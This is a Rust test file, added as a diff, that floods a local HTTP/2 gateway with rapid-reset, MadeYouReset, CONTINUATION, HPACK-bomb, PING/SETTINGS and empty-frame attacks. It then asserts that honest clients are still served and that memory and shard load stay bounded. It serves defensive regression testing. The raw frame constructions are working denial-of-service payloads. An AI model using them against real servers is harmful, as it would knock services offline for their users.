@@ -1,0 +1,308 @@
+//! Attacks by the number, the order or the size of HTTP/2 frames. In each, an honest client is served all the same,
+//! a shard never has more to do than the streams that one connection may have open, and afterwards the gateway
+//! is what it was.
+
+use std::sync::atomic::Ordering;
+
+use http::Method;
+use tokio::time::timeout;
+
+use crate::frames::{
+    CANCEL, CONTINUATION, DATA, END_STREAM, HEADERS, PING, PRIORITY, RST_STREAM, RawHttp2, SETTINGS,
+    WINDOW_UPDATE, block, frame, headers, integer, request_block,
+};
+use crate::target::{LIMIT, Target};
+use crate::world::request;
+
+/// Streams that a connection may have open, as configured by default.
+const MOST_STREAMS: usize = 250;
+const WAIT: &[u8] = b"/clusters/root:org/wait";
+
+/// Sends until the server ends the connection; fails if it bears all of it.
+async fn until_ended(
+    connection: &mut RawHttp2,
+    rounds: usize,
+    mut frames: impl FnMut(&mut RawHttp2) -> Vec<u8>,
+) {
+    for _ in 0..rounds {
+        let bytes = frames(connection);
+        connection.write(&bytes).await;
+        if connection.ended {
+            return;
+        }
+    }
+    let end = async { while connection.next().await.is_some() {} };
+    timeout(LIMIT, end).await.expect("the attack is borne");
+}
+
+/// Sends without reading until an honest client has been served often enough.
+async fn while_others_are_served(target: &Target, connection: &mut RawHttp2, flood: &[u8]) {
+    let honest = target.honest().await;
+    let attack = async {
+        while !connection.ended {
+            connection.write(flood).await;
+        }
+        std::future::pending::<()>().await
+    };
+    let served = async {
+        for _ in 0..200 {
+            let answer = honest.get("/clusters/root:org/api").await;
+            assert_eq!(answer.status, 200);
+        }
+    };
+    let both = async {
+        tokio::select! {
+            () = served => {}
+            () = attack => {}
+        }
+    };
+    timeout(LIMIT, both).await.expect("an honest client is not served");
+}
+
+async fn assert_shard_was_spared(target: &Target) {
+    let most = target.world.alpha.state.most_waiting.load(Ordering::SeqCst);
+    // Those of the last connection may not all be gone when the next one begins.
+    assert!(most <= 2 * MOST_STREAMS, "{most} requests at a shard at the same time");
+    let mut waiting = target.world.alpha.state.waiting.subscribe();
+    let over = waiting.wait_for(|waiting| *waiting == 0);
+    timeout(LIMIT, over).await.expect("a shard still works for somebody who left").unwrap();
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn rapid_reset_cve_2023_44487() {
+    let mut target = Target::start().await;
+    let before = target.at_rest().await;
+    for _ in 0..5 {
+        let mut connection = target.http2(None).await;
+        until_ended(&mut connection, 2_000, |connection| {
+            let request = request_block(b"GET", WAIT);
+            let pair = |stream| {
+                [headers(stream, END_STREAM, &request), frame(RST_STREAM, 0, stream, &CANCEL.to_be_bytes())]
+                    .concat()
+            };
+            (0..50).flat_map(|_| pair(connection.open())).collect()
+        })
+        .await;
+    }
+    assert_shard_was_spared(&target).await;
+    target.assert_unharmed(&before).await;
+}
+
+/// Six faults of a client that make the server reset the stream, while the request goes on behind it.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn made_you_reset_cve_2025_8671() {
+    let mut target = Target::start().await;
+    let before = target.at_rest().await;
+    let primitives: [fn(u32) -> Vec<u8>; 6] = [
+        |stream| frame(WINDOW_UPDATE, 0, stream, &0_u32.to_be_bytes()),
+        |stream| frame(WINDOW_UPDATE, 0, stream, &((1_u32 << 31) - 1).to_be_bytes()),
+        |stream| [frame(DATA, END_STREAM, stream, b"x"), frame(DATA, END_STREAM, stream, b"x")].concat(),
+        |stream| {
+            [frame(DATA, END_STREAM, stream, b"x"), headers(stream, END_STREAM, &request_block(b"GET", WAIT))]
+                .concat()
+        },
+        |stream| frame(PRIORITY, 0, stream, &[&stream.to_be_bytes()[..], &[0]].concat()),
+        |stream| frame(PRIORITY, 0, stream, b"four"),
+    ];
+    for primitive in primitives {
+        let mut connection = target.http2(None).await;
+        // A fault that is none to this server leaves its requests open, up to the limit.
+        for _ in 0..40 {
+            let bytes: Vec<u8> = (0..50)
+                .flat_map(|_| {
+                    let stream = connection.open();
+                    [headers(stream, 0, &request_block(b"POST", WAIT)), primitive(stream)].concat()
+                })
+                .collect();
+            connection.write(&bytes).await;
+        }
+    }
+    assert_shard_was_spared(&target).await;
+    target.assert_unharmed(&before).await;
+}
+
+/// A head that never ends, in pieces that are full, small or empty.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn continuation_flood_2024() {
+    let mut target = Target::start().await;
+    let before = target.at_rest().await;
+    let field = block([(&b"x-a"[..], &[b'y'; 100][..])]);
+    for piece in [&field.repeat(100)[..], &field, b""] {
+        let mut connection = target.http2(None).await;
+        let stream = connection.open();
+        connection.write(&frame(HEADERS, 0, stream, &request_block(b"GET", WAIT))).await;
+        let flood = frame(CONTINUATION, 0, stream, piece).repeat(20);
+        until_ended(&mut connection, 20_000, |_| flood.clone()).await;
+    }
+    target.assert_unharmed(&before).await;
+}
+
+/// Heads that are small on the wire and large in memory, held open on every stream.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn http2_bomb_cve_2026_49975() {
+    const CONNECTIONS: u64 = 10;
+    let mut target = Target::start().await;
+    let before = target.at_rest().await;
+    let mut after_the_first = None;
+    // One entry for the table, once large, once small; then references to it, one byte each.
+    let bombs = [(3_900, 4_000), (3_900, 8), (1, 4_000), (1, 110)].map(|(size, references)| {
+        let mut bomb = request_block(b"POST", WAIT);
+        bomb.push(0x40);
+        integer(&mut bomb, 0, 7, 6);
+        bomb.extend_from_slice(b"cookie");
+        integer(&mut bomb, 0, 7, size);
+        bomb.extend(vec![b'y'; size]);
+        bomb.extend(vec![0xbe; references]);
+        bomb
+    });
+    for bomb in bombs.iter().rev() {
+        let mut connections = Vec::new();
+        for _ in 0..CONNECTIONS {
+            let mut connection = target.http2(None).await;
+            for _ in 0..MOST_STREAMS {
+                let stream = connection.open();
+                connection.write(&headers(stream, 0, bomb)).await;
+            }
+            connections.push(connection);
+        }
+        let honest = target.honest().await;
+        assert_eq!(honest.get("/clusters/root:org/api").await.status, 200);
+        let pinned = target.memory_kib().saturating_sub(before.memory_kib) / CONNECTIONS;
+        println!(
+            "{pinned} KiB per connection of {MOST_STREAMS} streams, {} bytes each on the wire",
+            bomb.len()
+        );
+        assert!(pinned < 16 << 10, "{pinned} KiB per connection");
+        drop((connections, honest));
+        // What the allocator keeps after the first time is not kept again.
+        let at_rest = target.at_rest().await;
+        target.assert_unharmed(after_the_first.get_or_insert(at_rest)).await;
+    }
+}
+
+/// Frames that want an answer, from a client that reads none.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn ping_and_settings_floods_cve_2019_9512_and_9515() {
+    let mut target = Target::start().await;
+    let before = target.at_rest().await;
+    for flood in
+        [frame(PING, 0, 0, &[7; 8]), frame(SETTINGS, 0, 0, &[]), frame(SETTINGS, 0, 0, &[0, 4, 0, 1, 0, 0])]
+    {
+        let mut connection = target.http2(None).await;
+        while_others_are_served(&target, &mut connection, &flood.repeat(1_000)).await;
+        drop(connection);
+        target.assert_unharmed(&before).await;
+    }
+}
+
+/// Frames that cost nothing to send and something to receive.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn floods_of_empty_and_useless_frames_cve_2019_9518_9513_and_rustsec_2026_0258() {
+    let mut target = Target::start().await;
+    let before = target.at_rest().await;
+    let useless: [fn(u32) -> Vec<u8>; 6] = [
+        |stream| frame(DATA, 0, stream, b""),
+        |stream| frame(DATA, 8, stream, b"\0"),
+        |stream| frame(DATA, 0, stream, b"x"),
+        |stream| frame(WINDOW_UPDATE, 0, stream, &1_u32.to_be_bytes()),
+        |stream| frame(PRIORITY, 0, stream + 2, &[0, 0, 0, 1, 255]),
+        |stream| frame(200, 0, stream, b"unknown"),
+    ];
+    for frames in useless {
+        for path in [WAIT, b"/clusters/root:nope/api"] {
+            let mut connection = target.http2(None).await;
+            let stream = connection.open();
+            connection.write(&headers(stream, 0, &request_block(b"POST", path))).await;
+            while_others_are_served(&target, &mut connection, &frames(stream).repeat(1_000)).await;
+        }
+        target.assert_unharmed(&before).await;
+    }
+    assert_shard_was_spared(&target).await;
+}
+
+/// Fields without a name or a value.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn empty_header_fields_cve_2019_9516_and_2023_25725() {
+    let mut target = Target::start().await;
+    let before = target.at_rest().await;
+    for field in [(&b""[..], &b""[..]), (b"", b"x"), (b"x", b"")] {
+        let mut connection = target.http2(None).await;
+        for _ in 0..100 {
+            let stream = connection.open();
+            let fields = block(std::iter::repeat_n(field, 1_000));
+            let head = [request_block(b"GET", b"/clusters/root:org/must-not-arrive"), fields].concat();
+            connection.write(&headers(stream, END_STREAM, &head)).await;
+        }
+    }
+    let mut http1 = target.http1(None).await;
+    let message = "GET /clusters/root:org/must-not-arrive HTTP/1.1\r\nHost: localhost\r\n: x\r\nContent-Length: 0\r\n\r\n";
+    if let Ok(answer) = http1.ask(message).await {
+        assert_eq!(answer.code, 400);
+    }
+    drop(http1);
+    target.forget();
+    target.assert_unharmed(&before).await;
+}
+
+/// Answers that nobody takes, or takes byte by byte.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn answers_that_are_not_taken_cve_2019_9511_and_9517() {
+    let target = Target::start().await;
+    let before = target.at_rest().await;
+    let mut connection = target.http2(None).await;
+    // No window for streams, all of it for the connection.
+    connection.write(&frame(SETTINGS, 0, 0, &[0, 4, 0, 0, 0, 0])).await;
+    let streams: Vec<u32> = (0..MOST_STREAMS).map(|_| connection.open()).collect();
+    for stream in &streams {
+        connection
+            .write(&headers(*stream, END_STREAM, &request_block(b"GET", b"/clusters/root:org/big")))
+            .await;
+    }
+    for _ in 0..50 {
+        let bytes = streams.iter().flat_map(|stream| frame(WINDOW_UPDATE, 0, *stream, &1_u32.to_be_bytes()));
+        let bytes: Vec<u8> = bytes.collect();
+        connection.write(&bytes).await;
+    }
+    let honest = target.honest().await;
+    for _ in 0..50 {
+        let answer =
+            timeout(LIMIT, honest.send(request(Method::GET, "/clusters/root:org/api", &[], ""))).await;
+        assert_eq!(answer.expect("not served").status, 200);
+    }
+    // The windows towards the shard, and what waits for the client.
+    let held = target.memory_kib().saturating_sub(before.memory_kib);
+    println!("{held} KiB for {MOST_STREAMS} answers that are not taken");
+    assert!(held < 400 * MOST_STREAMS as u64, "{held} KiB for answers that nobody takes");
+    drop((connection, honest));
+    target.at_rest().await;
+}
+
+/// The settings that say how much a client may ask for at once (pingora's own defaults do not hold for who builds options).
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn the_limits_of_http2_are_announced() {
+    let target = Target::start().await;
+    let mut connection = target.http2(None).await;
+    let settings = loop {
+        let frame = connection.next().await.unwrap();
+        if frame.kind == SETTINGS && frame.flags == 0 {
+            break frame.payload;
+        }
+    };
+    let setting = |name: u8| {
+        let found = settings.chunks(6).find(|setting| setting[..2] == [0, name]);
+        found.map(|setting| u32::from_be_bytes(setting[2..].try_into().unwrap()))
+    };
+    assert_eq!((setting(3), setting(6)), (Some(250), Some(64 << 10)));
+    // One stream more than allowed is refused; the others live.
+    let bytes: Vec<u8> = (0..=MOST_STREAMS)
+        .flat_map(|_| headers(connection.open(), 0, &request_block(b"POST", WAIT)))
+        .collect();
+    connection.write(&bytes).await;
+    let refused = loop {
+        let frame = connection.next().await.unwrap();
+        if frame.kind == RST_STREAM {
+            break frame;
+        }
+    };
+    assert_eq!((refused.stream, refused.payload), (501, 7_u32.to_be_bytes().to_vec()));
+}
